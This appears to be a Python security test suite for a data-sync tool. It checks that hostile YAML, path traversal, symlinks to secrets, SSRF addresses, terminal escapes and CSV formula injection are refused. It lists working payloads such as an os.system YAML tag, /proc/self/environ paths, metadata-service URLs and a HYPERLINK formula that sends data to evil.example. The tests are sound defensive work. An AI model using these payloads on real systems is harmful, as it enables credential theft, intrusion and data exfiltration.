"""Somebody who may write to the catalog, or into source data, gets no further than that."""

from __future__ import annotations

import os
from types import SimpleNamespace

import pytest
from world import write_catalog

from orchestrations.document import MAX_BYTES, DocumentError, read_document
from orchestrations.failures import cell, lines, visible
from orchestrations.loader import load_catalog
from orchestrations.sources import open_source
from orchestrations.spec import Destination, Source
from worker.errors import CatalogError, RunError
from worker.ledger.records import RowOutcome
from worker.logs import redact

# --- YAML -----------------------------------------------------------------------------------------

LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join(f'*{a}' for _ in range(9))}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
YAML = {
    "tags: they would make objects of Python": (
        "x: !!python/object/apply:os.system [touch canary]\n", "tags (!name) are not allowed"
    ),
    "a tag of Python's names": ("x: !!python/name:os.system\n", "tags (!name) are not allowed"),
    "a tag of our own": ("x: !env HOME\n", "tags (!name) are not allowed"),
    "a billion laughs": (LAUGHS, "aliases (*name) are not allowed"),
    "a value that holds itself": ("x: &x [*x]\n", "aliases (*name) are not allowed"),
    "merge keys": ("x: {<<: {a: 1}}\n", "a key must be a plain word"),
    "nesting in lines": ("x: " + "[" * 5_000 + "]" * 5_000, "nested too deep"),
    "nesting in mappings": ("x: " + "{a: " * 500 + "1" + "}" * 500, "nested too deep"),
    "a key that is a list": ("? [a, b]\n: 1\n", "a key must be a plain word"),
    "two documents": ("a: 1\n---\nb: 2\n", "not valid YAML"),
    "a file without end": ("x: " + "y" * MAX_BYTES, "larger than 64 KiB"),
    "no text": ("x: \udcff\udcfe", "not UTF-8 text"),
    "escapes": ("x: \x1b[2J\n", "a character that YAML does not allow"),
    "thousands of digits": ("x: " + "9" * 5_000, "a value that cannot be read; quote it"),
    "a list in place of keys": ("- a\n", "must be a mapping of keys to values"),
    "nothing": ("", "the file is empty"),
}  # fmt: skip


@pytest.mark.parametrize("name", YAML)
def test_a_hostile_yaml_file_is_refused_in_words_without_its_values(tmp_path, name):
    text, said = YAML[name]
    (tmp_path / "x.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))

    with pytest.raises(DocumentError) as caught:
        read_document(tmp_path / "x.yaml")
    assert said in caught.value.what
    assert "canary" not in caught.value.what
    assert not (tmp_path / "canary").exists()


def test_a_key_that_stands_twice_is_told_with_its_second_line(tmp_path):
    write_catalog(tmp_path)
    file = tmp_path / "destinations" / "socktown.yaml"
    file.write_text(file.read_text() + "restrict_pii: true\nrestrict_pii: false\n")
    with pytest.raises(CatalogError, match=r"socktown.yaml:\d+ restrict_pii.*twice"):
        load_catalog(tmp_path)


# --- paths ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", ["loyalty.yaml", "destinations/socktown.yaml", "access.yaml"])
def test_a_pipe_in_place_of_a_file_is_not_waited_for(tmp_path, place):
    from orchestrations.access import load_access

    write_catalog(tmp_path)
    (tmp_path / place).unlink(missing_ok=True)
    os.mkfifo(tmp_path / place)
    with pytest.raises(CatalogError, match="is no file"):
        load_access(tmp_path) if place == "access.yaml" else load_catalog(tmp_path)


def test_a_query_that_is_a_pipe_is_not_waited_for(tmp_path):
    write_catalog(tmp_path)
    (tmp_path / "loyalty.sql").unlink()
    os.mkfifo(tmp_path / "loyalty.sql")
    with pytest.raises(CatalogError, match=r"there is no file 'loyalty.sql'"):
        load_catalog(tmp_path)


def test_a_query_that_is_a_link_to_secrets_is_not_read(tmp_path):
    folder = write_catalog(tmp_path / "catalog")
    (tmp_path / ".env").write_text("DESKFEED_SPOOL_KEY=canary\n")
    (folder / "loyalty.sql").unlink()
    (folder / "loyalty.sql").symlink_to(tmp_path / ".env")
    with pytest.raises(CatalogError, match="leads out of the catalog folder") as caught:
        load_catalog(folder)
    assert "canary" not in caught.value.message


def test_a_query_that_is_a_link_inside_the_catalog_is_read(tmp_path):
    folder = write_catalog(tmp_path / "catalog")
    (folder / "loyalty.sql").rename(folder / "data" / "real.sql")
    (folder / "loyalty.sql").symlink_to(folder / "data" / "real.sql")
    assert "SELECT" in load_catalog(folder).queries["loyalty"]


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd", "/etc/passwd.csv", "../secrets.csv", "data/../../secrets.csv",
        "/proc/self/environ", "/dev/stdin", "file:///etc/passwd.csv", "http://127.0.0.1/x.csv",
        "s3://bucket/x.csv", "..\\x.csv", "data\\..\\x.csv", "~root/x.txt", "data/**x/*.csv",
    ],
)  # fmt: skip
def test_a_path_out_of_the_catalog_is_refused_where_it_is_written(path):
    with pytest.raises(ValueError, match=r"path inside the catalog|must end in|alone between"):
        Source.model_validate({"name": "s", "type": "files", "tables": {"t": path}})


@pytest.fixture
def data(tmp_path):
    folder = tmp_path / "catalog" / "data"
    folder.mkdir(parents=True)
    (tmp_path / "secret.csv").write_text("a\ncanary\n")
    return folder


def opened(folder, pattern):
    tables = {"name": "s", "type": "files", "tables": {"t": pattern}}
    with open_source(Source.model_validate(tables), folder) as found:
        return [row for batch in found.query("SELECT * FROM t").batches for row in batch]


@pytest.mark.parametrize("pattern", ["data/link.csv", "data/*.csv", "**/*.csv"])
def test_a_link_out_of_the_catalog_is_refused_by_name_and_in_a_pattern(data, pattern):
    (data / "good.csv").write_text("a\n1\n")
    (data / "link.csv").symlink_to(data.parent.parent / "secret.csv")
    with pytest.raises(RunError, match="leads out of the catalog folder"):
        opened(data.parent, pattern)


def test_a_linked_folder_leads_out_as_well(data):
    (data / "sub").symlink_to(data.parent.parent)
    with pytest.raises(RunError, match=r"leads out of the catalog folder|no file matches"):
        opened(data.parent, "data/sub/secret.csv")


@pytest.mark.parametrize("make", ["pipe", "device", "environ"])
def test_pipes_devices_and_the_process_itself_are_no_data(data, make):
    path = data / "x.csv"
    if make == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero" if make == "device" else "/proc/self/environ")
    with pytest.raises(RunError, match=r"no file matches|leads out of the catalog folder"):
        opened(data.parent, "data/x.csv")


@pytest.mark.parametrize(
    "query", ["../x.sql", "/etc/x.sql", "a/b.sql", ".x.sql", "x.sh", "a\\b.sql"]
)
def test_a_query_lies_beside_its_orchestration(tmp_path, query):
    write_catalog(tmp_path)
    file = tmp_path / "loyalty.yaml"
    file.write_text(file.read_text().replace("query: loyalty.sql", f"query: {query}"))
    with pytest.raises(CatalogError, match=r"must be the name of a \.sql file beside"):
        load_catalog(tmp_path)


# --- where to -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "subdomain",
    [
        "evil.example", "evil.example/", "evil.example#", "evil.example?x=", "a@evil.example",
        "evil.example:443", "socktown.zendesk.com.evil.example", "a.b", "-a", "a-", "", " ", "A",
        "sock town", "socktown\n", "\u0455ocktown", "xn--", "a" * 64, "..", "127.0.0.1", "%2e",
    ],
)  # fmt: skip
def test_a_subdomain_that_is_no_bare_label_is_refused_with_what_to_write(subdomain):
    with pytest.raises(ValueError, match=r"must be the bare label, e\.g\. '[a-z0-9-]+'"):
        Destination.model_validate(
            {"name": "d", "description": "d", "plugin": "zendesk", "credential": "c",
             "subdomain": subdomain}
        )  # fmt: skip


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254", "http://10.0.0.1", "https://evil.example", "http://127.0.0.1@x",
        "http://127.0.0.1.nip.io", "http://[::ffff:169.254.169.254]", "http://0x7f000001",
        "http://127.0.0.1:0", "http://127.0.0.1:99999", "http://127.0.0.1/path", "http://2130706433",
        "http://127.0.0.1?x", "http://127.0.0.1#x", "HTTP://127.0.0.1", "http://u:p@127.0.0.1",
        "https://127.0.0.1", "http://localhost.evil.example", "file:///etc/passwd", "",
    ],
)  # fmt: skip
def test_another_address_than_this_machines_is_refused(url):
    with pytest.raises(ValueError, match="must be a loopback address and nothing else"):
        Destination.model_validate(
            {"name": "d", "description": "d", "plugin": "zendesk", "credential": "c",
             "base_url": url}
        )  # fmt: skip


# --- what people read -----------------------------------------------------------------------------

UNSEEN = ["\x1b[2J", "\x9b1A", "\r", "\n", "\b", "\x00", "\u202e", "\u2066", "\u200b", "\u2028"]


@pytest.mark.parametrize("character", UNSEEN)
def test_a_value_of_the_source_moves_no_cursor_and_turns_no_words(character):
    row = RowOutcome(
        row=1, external_id=f"C{character}1", email=None, kind="failed", code="missing_name",
        detail=f"empty{character}",
    )  # fmt: skip
    run = SimpleNamespace(
        run_id="df-1", orchestration="loyalty", target=SimpleNamespace(destination="socktown")
    )
    line, *_ = lines(iter([row]), run, "table")
    assert line.isprintable()
    assert line.startswith("row 1  C\\u")
    assert visible("Zoë 🧦 -1") == "Zoë 🧦 -1"


@pytest.mark.parametrize("character", [c for c in UNSEEN if c != "\u200b"])
def test_a_line_of_the_log_cannot_be_forged(character):
    assert redact(f"loyalty{character}INFO run_finished").isprintable()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd",
        "@SUM(1)", "\t=1", "\r\n=1", "\u00a0=1", "  +1", "\uff1d1", "\0=1",
    ],
)  # fmt: skip
def test_no_cell_begins_a_formula(text):
    assert cell(text) == "'" + text
